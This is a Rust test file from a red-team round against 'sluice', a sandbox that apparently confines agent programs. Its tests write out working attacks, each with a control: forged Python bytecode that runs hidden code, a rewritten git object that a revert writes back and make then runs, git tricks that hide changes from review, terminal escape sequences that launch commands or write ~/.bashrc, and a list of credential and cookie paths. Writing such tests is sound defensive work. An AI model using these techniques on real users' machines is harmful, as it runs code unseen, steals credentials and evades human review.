@@ -1,0 +1,550 @@
+//! Red team 13: attacks on sluice as it was at 8e077d6, each with its
+//! control (the same action where it is allowed, or outside sluice).
+
+use std::process::Command;
+
+use sluice_tests::pty::{Replies, Terminal};
+use sluice_tests::Fixture;
+
+const PROBE: &str = env!("CARGO_BIN_EXE_sluice-probe");
+
+// ---------------------------------------------------------------------------
+// The terminal's replies to the program's last queries.
+// ---------------------------------------------------------------------------
+
+/// A hundred cursor position queries and an ENQ, then the program ends at
+/// once: the terminal's replies are still on their way when it has gone.
+const ASK_AND_EXIT: &str =
+    r"i=0; while [ $i -lt 100 ]; do printf '\033[6n'; i=$((i+1)); done; printf '\005'";
+
+/// What the person's shell reads after `program` ends, on a terminal that
+/// answers as xterm does over a slow link (each reply a moment after the
+/// last): whatever the terminal typed meanwhile, shown by `od` between
+/// `LEFT[` and `]`.
+fn left_for_the_shell(program: Command) -> String {
+    let mut argv = vec![program.get_program().to_owned()];
+    argv.extend(program.get_args().map(ToOwned::to_owned));
+    // The shell the person returns to: it reads what is typed, raw, until
+    // the terminal has been quiet for a second.
+    let script = r#""$@"; stty -icanon -echo min 0 time 10; printf 'LEFT['; cat | od -An -c | tr -d ' \n'; printf ']\n'"#;
+    let mut shell = Command::new("/bin/sh");
+    shell.arg("-c").arg(script).arg("sh").args(&argv);
+    for (key, value) in program.get_envs() {
+        match value {
+            Some(v) => shell.env(key, v),
+            None => shell.env_remove(key),
+        };
+    }
+    if let Some(dir) = program.get_current_dir() {
+        shell.current_dir(dir);
+    }
+    let mut t = Terminal::spawn_with(shell, 24, 100, Replies::SlowXterm);
+    t.expect("LEFT[");
+    let left = t.expect("]");
+    let done = t.wait();
+    assert_eq!(done.code, 0, "{}", done.transcript);
+    left
+}
+
+/// The relay stops reading the person's terminal when the program ends;
+/// replies to queries the program wrote just before were typed into the
+/// person's shell (an answerback, a report: with a terminal that reports
+/// text the program chose, a command line). Now a fence at the end takes
+/// them. Control: the same program outside sluice leaves them to the shell.
+#[test]
+fn the_terminals_replies_to_the_programs_last_queries_never_reach_the_persons_shell() {
+    let fx = Fixture::new(PROBE);
+    let inside = left_for_the_shell(fx.sluice_command(&[], &["/bin/sh", "-c", ASK_AND_EXIT]));
+    assert_eq!(inside, "", "the terminal's replies reached the shell");
+    // Control: outside sluice the shell reads them.
+    let mut direct = Command::new("/bin/sh");
+    direct.args(["-c", ASK_AND_EXIT]).current_dir(&fx.ws_dir);
+    let outside = left_for_the_shell(direct);
+    assert!(
+        outside.contains("PuTTY") || outside.contains("033[1;1R"),
+        "the control left nothing for the shell: the check proves nothing ({outside:?})"
+    );
+}
+
+/// Control of the fence: a program that reads its own reply still gets it.
+#[test]
+fn a_program_still_reads_the_terminals_reply_to_its_query() {
+    let fx = Fixture::new(PROBE);
+    let script = r"stty -icanon -echo min 0 time 20; printf '\033[6n'; printf 'GOT['; cat | od -An -c | tr -d ' \n'; printf ']\n'";
+    let mut t = Terminal::spawn(fx.sluice_command(&[], &["/bin/sh", "-c", script]), 24, 100);
+    t.expect("GOT[");
+    let got = t.expect("]");
+    assert_eq!(got, "033[1;1R");
+    assert_eq!(t.wait().code, 0);
+}
+
+// ---------------------------------------------------------------------------
+// Python's bytecode cache: code the person runs later that no review shows.
+// ---------------------------------------------------------------------------
+
+const PYTHON: &str = "/usr/bin/python3";
+
+/// Writes, beside the workspace's `mod.py`, the bytecode Python would
+/// cache for it, compiled from other source: the header names the clean
+/// file's modification time and size, so Python runs the cache and never
+/// reads the source again. The canary is the file the planted code makes.
+const PLANT_PYC: &str = r#"
+import importlib.util, importlib._bootstrap_external as ext, os, sys
+canary = sys.argv[1]
+st = os.stat("mod.py")
+evil = "open(%r, 'w').write('ran')\n" % canary + open("mod.py").read()
+code = compile(evil, os.path.abspath("mod.py"), "exec")
+cached = importlib.util.cache_from_source("mod.py")
+os.makedirs(os.path.dirname(cached), exist_ok=True)
+with open(cached, "wb") as f:
+    f.write(ext._code_to_timestamp_pyc(code, st.st_mtime, st.st_size))
+print("planted", cached)
+"#;
+
+/// A workspace with a clean module and the program that imports it.
+fn python_project(fx: &Fixture) {
+    std::fs::write(fx.ws("mod.py"), "def greet():\n    return 'hello'\n").unwrap();
+    std::fs::write(fx.ws("app.py"), "import mod\nprint(mod.greet())\n").unwrap();
+}
+
+/// The person's `python3 app.py` outside, after the session: whether the
+/// planted bytecode ran (the source it shows is unchanged either way).
+fn persons_run_ran_the_plant(fx: &Fixture, canary: &str) -> bool {
+    let out = sluice_tests::execute({
+        let mut cmd = Command::new(PYTHON);
+        cmd.arg("app.py").current_dir(&fx.ws_dir);
+        cmd
+    });
+    assert!(out.stdout.contains("hello"), "{out}");
+    assert_eq!(
+        std::fs::read_to_string(fx.ws("mod.py")).unwrap(),
+        "def greet():\n    return 'hello'\n",
+        "the source changed: this is not the hidden way"
+    );
+    std::path::Path::new(canary).exists()
+}
+
+/// The program writes `__pycache__/mod.cpython-3X.pyc` for the person's
+/// clean `mod.py`: `git diff` and the source show nothing (`__pycache__` is
+/// in every Python `.gitignore`), and the person's next `python3 app.py`
+/// outside runs the planted code. Not fixed: protecting `**/*.pyc` (with
+/// `PYTHONPYCACHEPREFIX` set to the session's TMPDIR so that Python inside
+/// keeps a cache) is a policy decision for the lead.
+#[test]
+#[ignore = "open: bytecode Python caches in the workspace runs outside later (see the report)"]
+fn bytecode_the_program_caches_for_a_clean_module_never_runs_outside() {
+    let fx = Fixture::new(PROBE);
+    python_project(&fx);
+    let canary = fx.outside("pyc-ran");
+    let out =
+        sluice_tests::execute(fx.sluice_command(&[], &[PYTHON, "-c", PLANT_PYC, canary.as_str()]));
+    eprintln!("{out}");
+    assert!(
+        !persons_run_ran_the_plant(&fx, &canary),
+        "the person's python3 ran the bytecode the program planted"
+    );
+}
+
+/// Control: outside sluice the same plant runs on the person's next run.
+#[test]
+fn control_planted_bytecode_runs_on_the_persons_next_run() {
+    let fx = Fixture::new(PROBE);
+    python_project(&fx);
+    let canary = fx.outside("pyc-ran");
+    let out = sluice_tests::execute({
+        let mut cmd = Command::new(PYTHON);
+        cmd.args(["-c", PLANT_PYC, canary.as_str()])
+            .current_dir(&fx.ws_dir);
+        cmd
+    });
+    assert!(out.stdout.contains("planted"), "{out}");
+    assert!(persons_run_ran_the_plant(&fx, &canary));
+}
+
+// ---------------------------------------------------------------------------
+// Credentials the broker served on one yes.
+// ---------------------------------------------------------------------------
+
+/// Tokens of command-line tools and the browsers' session cookies, in the
+/// home directory, each with the secret it holds.
+const TOOL_CREDENTIALS: &[(&str, &str)] = &[
+    (
+        ".config/gh/hosts.yml",
+        "github.com:\n  oauth_token: gho_SECRET-gh\n",
+    ),
+    (".config/hub", "github.com:\n- oauth_token: SECRET-hub\n"),
+    (".config/glab-cli/config.yml", "token: SECRET-glab\n"),
+    (
+        ".config/rclone/rclone.conf",
+        "[s3]\nsecret_access_key = SECRET-rclone\n",
+    ),
+    (
+        ".terraform.d/credentials.tfrc.json",
+        "{\"credentials\":{\"app.terraform.io\":{\"token\":\"SECRET-tf\"}}}\n",
+    ),
+    (".vault-token", "hvs.SECRET-vault\n"),
+    (".pgpass", "db:5432:*:me:SECRET-pg\n"),
+    (".gem/credentials", ":rubygems_api_key: SECRET-gem\n"),
+    (
+        ".mozilla/firefox/p.default/cookies.sqlite",
+        "SECRET-firefox-cookies\n",
+    ),
+    (
+        ".config/google-chrome/Default/Cookies",
+        "SECRET-chrome-cookies\n",
+    ),
+    (
+        ".config/chromium/Default/Login Data",
+        "SECRET-chromium-logins\n",
+    ),
+];
+
+fn fixture_with_tool_credentials() -> Fixture {
+    let fx = Fixture::new(PROBE);
+    for (rel, secret) in TOOL_CREDENTIALS {
+        let path = std::path::PathBuf::from(fx.home(rel));
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(&path, secret).unwrap();
+    }
+    fx
+}
+
+/// `default`'s `[broker] deny` names the credentials it never serves
+/// "even if a person would say yes" (`~/.ssh`, `~/.aws`, `~/.netrc`...),
+/// but not the GitHub CLI's token nor the browsers' cookies: `ask "/"` put
+/// them to the person, so one hurried yes (or `--approve allow`) handed
+/// `~/.config/gh/hosts.yml` to the program. Control: a file of the home
+/// directory that holds no credential is still served on that yes.
+#[test]
+fn tools_tokens_and_browser_cookies_are_never_served_whatever_the_answer() {
+    let fx = fixture_with_tool_credentials();
+    for (rel, secret) in TOOL_CREDENTIALS {
+        let secret = secret.trim_end().escape_debug().to_string();
+        let out = fx.sluice(&["--approve", "allow"], &["broker-read", &fx.home(rel)]);
+        assert!(!out.stdout.contains(&secret), "{rel} was served: {out}");
+        out.assert_blocked();
+        let out = fx.sluice(
+            &["--approve", "allow", "--transparent"],
+            &["read", &fx.home(rel)],
+        );
+        assert!(!out.stdout.contains(&secret), "{rel} was read: {out}");
+        out.assert_blocked();
+    }
+    // Control: the same yes serves the rest of the home directory.
+    fx.sluice(
+        &["--approve", "allow"],
+        &["broker-read", &fx.home("notes.txt")],
+    )
+    .assert_ok()
+    .assert_says("SECRET-home-notes");
+    fx.sluice(
+        &["--approve", "allow", "--transparent"],
+        &["read", &fx.home("notes.txt")],
+    )
+    .assert_ok()
+    .assert_says("SECRET-home-notes");
+}
+
+/// The same files stay hidden where a policy extending `default` lets the
+/// sandbox read the home directory itself (control: the rest of it reads).
+#[test]
+fn tools_tokens_and_browser_cookies_stay_hidden_in_a_readable_home() {
+    let fx = fixture_with_tool_credentials();
+    let home = fx.home("");
+    for (rel, secret) in TOOL_CREDENTIALS {
+        let out = fx.sluice(&["--allow-read", &home], &["read", &fx.home(rel)]);
+        let secret = secret.trim_end().escape_debug().to_string();
+        assert!(!out.stdout.contains(&secret), "{rel} was read: {out}");
+    }
+    fx.sluice(&["--allow-read", &home], &["read", &fx.home("notes.txt")])
+        .assert_ok()
+        .assert_says("SECRET-home-notes");
+}
+
+// ---------------------------------------------------------------------------
+// git's object store: what the person's revert writes back.
+// ---------------------------------------------------------------------------
+
+/// `git` as the person runs it, outside sluice.
+fn git_outside(fx: &Fixture, dir: &std::path::Path, args: &[&str]) -> sluice_tests::Outcome {
+    let mut cmd = Command::new("git");
+    cmd.args(args)
+        .current_dir(dir)
+        .env("HOME", &fx.home_dir)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .env("GIT_AUTHOR_NAME", "p")
+        .env("GIT_AUTHOR_EMAIL", "p@example.com")
+        .env("GIT_COMMITTER_NAME", "p")
+        .env("GIT_COMMITTER_EMAIL", "p@example.com")
+        .stdin(std::process::Stdio::null());
+    sluice_tests::execute(cmd)
+}
+
+/// Replaces the stored blob of the committed `Makefile` (a loose object,
+/// the file named by its hash) with other content under the same name, and
+/// edits the work tree's copy visibly: an agent's change the person will
+/// revert. Arguments: the blob's hash, the canary, the repository.
+const POISON_BLOB: &str = r##"
+import os, sys, zlib
+blob, canary = sys.argv[1], sys.argv[2]
+os.chdir(sys.argv[3])
+evil = ("all:\n\t@touch %s; echo building\n" % canary).encode()
+path = ".git/objects/%s/%s" % (blob[:2], blob[2:])
+os.chmod(path, 0o644)
+os.unlink(path)
+with open(path, "wb") as f:
+    f.write(zlib.compress(b"blob %d\0" % len(evil) + evil))
+with open("Makefile", "a") as f:
+    f.write("# the agent's change\n")
+print("poisoned", path)
+"##;
+
+/// The person's repository `ws/proj` with a committed `Makefile`, and the
+/// hash of its blob.
+fn repository_with_a_makefile(fx: &Fixture) -> (std::path::PathBuf, String) {
+    let repo = fx.ws_dir.join("proj");
+    std::fs::create_dir_all(&repo).unwrap();
+    std::fs::write(repo.join("Makefile"), "all:\n\t@echo building\n").unwrap();
+    git_outside(fx, &repo, &["init", "-q"]).assert_code(0);
+    git_outside(fx, &repo, &["add", "Makefile"]).assert_code(0);
+    git_outside(fx, &repo, &["commit", "-qm", "init"]).assert_code(0);
+    let blob = git_outside(fx, &repo, &["rev-parse", "HEAD:Makefile"]);
+    (repo, blob.stdout.trim().to_owned())
+}
+
+/// The person reverts the agent's change (`git checkout -- Makefile`),
+/// `git diff` then shows nothing, and runs `make`: whether the planted
+/// content ran.
+fn persons_revert_and_make_ran_the_plant(
+    fx: &Fixture,
+    repo: &std::path::Path,
+    canary: &str,
+) -> bool {
+    git_outside(fx, repo, &["checkout", "--", "Makefile"]).assert_code(0);
+    let diff = git_outside(fx, repo, &["diff"]);
+    assert_eq!(diff.stdout, "", "{diff}");
+    let mut make = Command::new("make");
+    make.arg("-s").current_dir(repo);
+    sluice_tests::execute(make);
+    std::path::Path::new(canary).exists()
+}
+
+/// The program rewrites a loose object of the person's repository under
+/// its own name (git checks no object's hash when it reads it): the
+/// person who reverts the agent's edits gets the program's content back
+/// from the store, with a clean `git diff`, and runs it with `make`. Not
+/// fixed: the guard sees neither `unlink` (under `default`) nor the
+/// content of a file opened at an object's name; checking every object
+/// written during the session against its name (loose objects, packs,
+/// `objects/info/alternates`) is the fix to weigh (see the report).
+#[test]
+#[ignore = "open: an object the program rewrites in the person's .git is what the person's revert writes back"]
+fn an_object_the_program_rewrites_is_never_what_the_persons_revert_writes() {
+    let fx = Fixture::new(PROBE);
+    let (repo, blob) = repository_with_a_makefile(&fx);
+    let canary = fx.outside("make-ran");
+    let dir = repo.to_str().unwrap();
+    let out = sluice_tests::execute(fx.sluice_command(
+        &[],
+        &["/usr/bin/python3", "-c", POISON_BLOB, &blob, &canary, dir],
+    ));
+    eprintln!("{out}");
+    assert!(
+        !persons_revert_and_make_ran_the_plant(&fx, &repo, &canary),
+        "the person's revert wrote the program's content and make ran it"
+    );
+}
+
+/// Control: the same rewrite outside sluice runs on the person's `make`.
+#[test]
+fn control_a_rewritten_object_is_what_a_revert_writes() {
+    let fx = Fixture::new(PROBE);
+    let (repo, blob) = repository_with_a_makefile(&fx);
+    let canary = fx.outside("make-ran");
+    let mut poison = Command::new("/usr/bin/python3");
+    poison
+        .args(["-c", POISON_BLOB, &blob, &canary, repo.to_str().unwrap()])
+        .current_dir(&repo);
+    sluice_tests::execute(poison).assert_code(0);
+    assert!(persons_revert_and_make_ran_the_plant(&fx, &repo, &canary));
+}
+
+/// Changes the committed `Makefile` and hides the change from `git status`
+/// and `git diff` with the index's skip-worktree bit; adds a `conftest.py`
+/// (pytest runs it) hidden by `.git/info/exclude`. Argument: the repository.
+const HIDE_CHANGES: &str = "cd \"$1\" && printf 'all:\\n\\t@echo hidden\\n' > Makefile && \
+    git update-index --skip-worktree Makefile && echo 'import os' > conftest.py && \
+    echo conftest.py >> .git/info/exclude && echo hidden";
+
+/// What the person's review sees: `git status --porcelain` outside.
+fn persons_status(fx: &Fixture, repo: &std::path::Path) -> String {
+    let status = git_outside(fx, repo, &["status", "--porcelain"]);
+    status.assert_code(0);
+    status.stdout
+}
+
+/// The program edits a tracked file and sets the index's skip-worktree
+/// bit (or adds a file and lists it in `.git/info/exclude`): the person's
+/// `git status` and `git diff` show nothing, and `make` (pytest) runs what
+/// the program wrote. Not fixed: `.git/index` and `.git/info/exclude` are
+/// written by git inside; a check at the session's end of the index's
+/// flags and of `info/exclude` against launch is the fix to weigh.
+#[test]
+#[ignore = "open: the program hides its changes from the person's git status (see the report)"]
+fn the_programs_changes_are_never_hidden_from_the_persons_git_status() {
+    let fx = Fixture::new(PROBE);
+    let (repo, _) = repository_with_a_makefile(&fx);
+    let dir = repo.to_str().unwrap();
+    sluice_tests::execute(fx.sluice_command(&[], &["/bin/sh", "-c", HIDE_CHANGES, "sh", dir]))
+        .assert_code(0);
+    let status = persons_status(&fx, &repo);
+    assert!(status.contains("Makefile"), "{status:?}");
+    assert!(status.contains("conftest.py"), "{status:?}");
+}
+
+/// Control: outside sluice the same commands hide both changes.
+#[test]
+fn control_git_status_hides_what_the_index_and_exclude_say() {
+    let fx = Fixture::new(PROBE);
+    let (repo, _) = repository_with_a_makefile(&fx);
+    let mut hide = Command::new("/bin/sh");
+    hide.args(["-c", HIDE_CHANGES, "sh", repo.to_str().unwrap()])
+        .env("HOME", &fx.home_dir);
+    sluice_tests::execute(hide).assert_code(0);
+    assert_eq!(persons_status(&fx, &repo), "");
+    assert!(std::fs::read_to_string(repo.join("Makefile"))
+        .unwrap()
+        .contains("hidden"));
+}
+
+// ---------------------------------------------------------------------------
+// Terminals that act for the program beyond the screen.
+// ---------------------------------------------------------------------------
+
+/// kitty's remote control (`launch` runs a command outside, where the
+/// person set `allow_remote_control yes`), kitty's file transfer, and
+/// iTerm2's clipboard and file download, and a user-defined key (xterm's
+/// Shift-F6 would type `echo pwned` and Enter into the person's shell after
+/// the session), between text that must pass.
+const TERMINAL_ACTIONS: &str = r#"printf 'before\033P@kitty-cmd{"cmd":"launch","version":[0,26,0],"no_response":true,"payload":{"args":["sh","-c","touch /tmp/x"],"type":"background"}}\033\\mid1'
+printf '\033]5113;ac=send;id=a;dest=~/.bashrc\033\\mid2'
+printf '\033]1337;Copy=:ZWNobyBwd25lZAo=\007mid3'
+printf '\033P0;1|17/6563686f2070776e65640d\033\\mid4'
+printf '\033]1337;File=name=LmJhc2hyYw==;inline=0:ZWNobyBwd25lZAo=\007after\n'"#;
+
+/// What the person's terminal was sent, outside sluice or in it.
+fn terminal_transcript(cmd: Command) -> String {
+    let mut t = Terminal::spawn(cmd, 24, 100);
+    t.expect("after");
+    let done = t.wait();
+    assert_eq!(done.code, 0, "{:?}", done.transcript);
+    done.transcript
+}
+
+/// The relay dropped only clipboard strings: kitty's remote control, by
+/// which a terminal configured to accept it (`allow_remote_control yes`)
+/// launches any command the program names outside the sandbox, reached
+/// the person's terminal, as did kitty's file transfer, iTerm2's
+/// clipboard and file download and xterm's user-defined keys. Control: outside sluice the terminal is
+/// sent each of them.
+#[test]
+fn the_program_cannot_drive_the_persons_terminal_beyond_its_screen() {
+    let fx = Fixture::new(PROBE);
+    let inside = terminal_transcript(fx.sluice_command(&[], &["/bin/sh", "-c", TERMINAL_ACTIONS]));
+    for needle in [
+        "@kitty-cmd",
+        "5113;",
+        "1337;Copy",
+        "1337;File",
+        "ZWNv",
+        "|17/",
+    ] {
+        assert!(
+            !inside.contains(needle),
+            "{needle} reached the terminal: {inside:?}"
+        );
+    }
+    assert!(inside.contains("beforemid1mid2mid3mid4after"), "{inside:?}");
+    // Control: a program outside sluice sends them all.
+    let mut direct = Command::new("/bin/sh");
+    direct
+        .args(["-c", TERMINAL_ACTIONS])
+        .current_dir(&fx.ws_dir);
+    let outside = terminal_transcript(direct);
+    for needle in ["@kitty-cmd", "5113;", "1337;Copy", "1337;File", "|17/"] {
+        assert!(outside.contains(needle), "{needle}: {outside:?}");
+    }
+}
+
+/// Without a pty (sluice's stdout a pipe: `sluice run -- cargo build |
+/// tee log`), the program's standard error is the person's terminal
+/// itself, and kitty's remote control written there reaches it unfiltered:
+/// with `allow_remote_control yes`, a command run outside the sandbox. Not
+/// fixed: the relay needs stdin and stdout on a terminal; relaying a
+/// terminal that is the program's stderr alone (or giving it a pty for
+/// stderr) is a change to how the terminal is taken (see the report).
+#[test]
+#[ignore = "open: without a pty the program's stderr reaches the person's terminal unfiltered"]
+fn without_a_pty_the_program_still_cannot_drive_the_persons_terminal() {
+    let fx = Fixture::new(PROBE);
+    let to_stderr = format!("{{ {TERMINAL_ACTIONS}; }} >&2");
+    let cmd = fx.sluice_command(&[], &["/bin/sh", "-c", &to_stderr]);
+    let mut argv = vec![cmd.get_program().to_owned()];
+    argv.extend(cmd.get_args().map(ToOwned::to_owned));
+    let mut shell = Command::new("/bin/sh");
+    shell
+        .arg("-c")
+        .arg(r#""$@" | cat >/dev/null; echo done"#)
+        .arg("sh")
+        .args(&argv);
+    for (key, value) in cmd.get_envs() {
+        if let Some(v) = value {
+            shell.env(key, v);
+        }
+    }
+    shell.current_dir(&fx.ws_dir);
+    let mut t = Terminal::spawn(shell, 24, 100);
+    t.expect("done");
+    let transcript = t.wait().transcript;
+    assert!(transcript.contains("after"), "{transcript:?}");
+    assert!(
+        !transcript.contains("@kitty-cmd"),
+        "kitty's remote control reached the terminal: {transcript:?}"
+    );
+}
+
+// ---------------------------------------------------------------------------
+// The suspend key.
+// ---------------------------------------------------------------------------
+
+/// Says when it is continued after a stop, for three seconds.
+const TRAPS_CONT: &str = "trap 'echo GOT-CONT' CONT; echo ready; i=0; \
+    while [ $i -lt 30 ]; do sleep 0.1; i=$((i+1)); done; echo end";
+
+/// Whether typing `key` at the program suspended (stopped and continued)
+/// it, the program having made `susp` its terminal's suspend character.
+fn key_suspends(fx: &Fixture, susp: &str, key: &[u8]) -> bool {
+    let script = format!("stty susp {susp}; {TRAPS_CONT}");
+    let mut t = Terminal::spawn(fx.sluice_command(&[], &["/bin/sh", "-c", &script]), 24, 100);
+    t.expect("ready");
+    t.send(key);
+    let before_end = t.expect("end");
+    t.wait();
+    before_end.contains("GOT-CONT")
+}
+
+/// The relay suspended the session on the suspend character of the
+/// program's own pty, which the program sets: a key of its choosing (a
+/// space, Enter) stopped sluice mid-line, and the rest of what the person
+/// was typing to the program went to the person's shell. Now only the
+/// person's own suspend character does. Control: Ctrl-Z still suspends.
+#[test]
+fn the_program_cannot_choose_the_key_that_hands_the_terminal_back_to_the_shell() {
+    let fx = Fixture::new(PROBE);
+    assert!(
+        !key_suspends(&fx, "a", b"a"),
+        "a key the program chose suspended the session"
+    );
+    // Control: the person's Ctrl-Z, the program's too, suspends it.
+    assert!(key_suspends(&fx, "^Z", b"\x1a"));
+}
